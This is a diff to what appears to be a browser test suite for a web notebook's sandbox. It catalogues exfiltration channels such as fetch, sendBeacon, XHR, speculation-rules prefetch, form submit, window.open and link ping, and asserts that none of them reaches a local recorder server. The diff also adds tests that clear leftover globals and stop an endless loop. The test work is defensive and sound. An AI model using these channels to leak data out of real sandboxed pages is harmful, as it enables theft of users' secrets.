@@ -7,8 +7,8 @@ import type {Interaction} from "./interaction.js";
 
 const SECRET = "kept-by-the-site";
 
-/** Each way out that a browser has; `to` is a host that writes down what arrives, `port` one that counts datagrams. */
-const waysOut = (to: string, port: number): Readonly<Record<string, string>> => ({
+/** Ways out that a browser has; `to` is a host that writes down what arrives. */
+const waysOut = (to: string): Readonly<Record<string, string>> => ({
   fetch: `await fetch("${to}/fetch", {mode: "no-cors"})`,
   beacon: `navigator.sendBeacon("${to}/beacon", "x")`,
   request: `const x = new XMLHttpRequest(); x.open("GET", "${to}/xhr"); x.send()`,
@@ -34,7 +34,11 @@ const waysOut = (to: string, port: number): Readonly<Record<string, string>> => 
       ]
     )
   ),
-  rules: `document.head.append(Object.assign(document.createElement("script"), {type: "speculationrules", textContent: JSON.stringify({prefetch: [{urls: ["${to}/rules"]}]})}))`,
+  rules: `document.head.append(Object.assign(document.createElement("script"), {type: "speculationrules", textContent: JSON.stringify({prefetch: [{urls: ["${to}/rules"]}]})}))`
+});
+
+/** Those that may end the document they are in, or take a while: each in a notebook of its own. */
+const waysOff = (to: string, port: number): Readonly<Record<string, string>> => ({
   form: `const f = document.createElement("form"); f.action = "${to}/form"; document.body.append(f); f.submit()`,
   window: `open("${to}/window")`,
   ping: `const a = document.createElement("a"); a.href = "#x"; a.ping = "${to}/ping"; document.body.append(a); a.click()`,
@@ -76,7 +80,7 @@ function link(...sources: readonly string[]): string {
   return `notebook#code=p.${Buffer.from(JSON.stringify(sources)).toString("base64url")}`;
 }
 
-/** Counts bytes, requests and datagrams that reach it. A connection that carries nothing is not a message. */
+/** Writes down bytes, requests and datagrams that reach it. A connection that carries nothing is not a message. */
 async function recorder() {
   const arrived: string[] = [];
   const server = createServer((request, response) => {
@@ -125,22 +129,17 @@ export const notebookAttacks: readonly Interaction[] = [
     async run(page, origin) {
       const {to, port, arrived, close} = await recorder();
       try {
-        for (const [way, code] of Object.entries(waysOut(to, port))) {
+        const together = Object.values(waysOut(to)).map(tried);
+        for (const cells of [together, ...Object.values(waysOff(to, port)).map((code) => [tried(code)])]) {
           await page.goto("about:blank");
-          await page.goto(`${origin}/${link(tried(code))}`);
-          await frameOf(page).locator(".cell").waitFor();
+          await page.goto(`${origin}/${link(...cells)}`);
+          await frameOf(page).locator(".cell").first().waitFor();
           await runAll(page);
-          await page.waitForTimeout(600);
-          assert.deepEqual(arrived, [], way);
-          assert.ok(page.url().startsWith(origin), way);
-          assert.equal(
-            page
-              .context()
-              .pages()
-              .filter((one) => one.url().startsWith(to)).length,
-            0,
-            way
-          );
+          await page.waitForTimeout(cells.length > 1 ? 3000 : 600);
+          assert.deepEqual(arrived, [], cells[0]);
+          assert.ok(page.url().startsWith(origin), cells[0]);
+          const opened = page.context().pages();
+          assert.ok(!opened.some((one) => one.url().startsWith(to)), cells[0]);
         }
       } finally {
         close();
@@ -195,6 +194,30 @@ export const notebookAttacks: readonly Interaction[] = [
       assert.equal(await page.locator("img[src=x]").count(), 0);
       const {height = 0} = (await page.locator("iframe.notebook-live").boundingBox()) ?? {};
       assert.ok(height <= 200_000);
+    }
+  },
+  {
+    title: "code that another notebook left behind is gone with it",
+    page: link("globalThis.left = 1"),
+    async run(page, origin) {
+      await frameOf(page).locator(".cell").first().waitFor();
+      await runAll(page);
+      await frameOf(page).locator('.cell[data-state="done"]').waitFor();
+      await page.goto(`${origin}/${link("globalThis.left === undefined", "2")}`);
+      await frameOf(page).locator(".cell").nth(1).waitFor();
+      await runAll(page);
+      await frameOf(page).locator(".cell").first().getByText("true").waitFor();
+    }
+  },
+  {
+    title: "a loop without end that no guard sees is stopped from the page",
+    page: link("1 + 1", `eval("while (true);")`),
+    async run(page) {
+      await frameOf(page).locator(".cell").first().waitFor();
+      await runAll(page);
+      await page.getByRole("button", {name: "停下来，重新打开，不运行"}).click();
+      await frameOf(page).locator(".cell").nth(1).waitFor();
+      assert.equal(await frameOf(page).locator('.cell:not([data-state="unrun"])').count(), 0);
     }
   },
   {
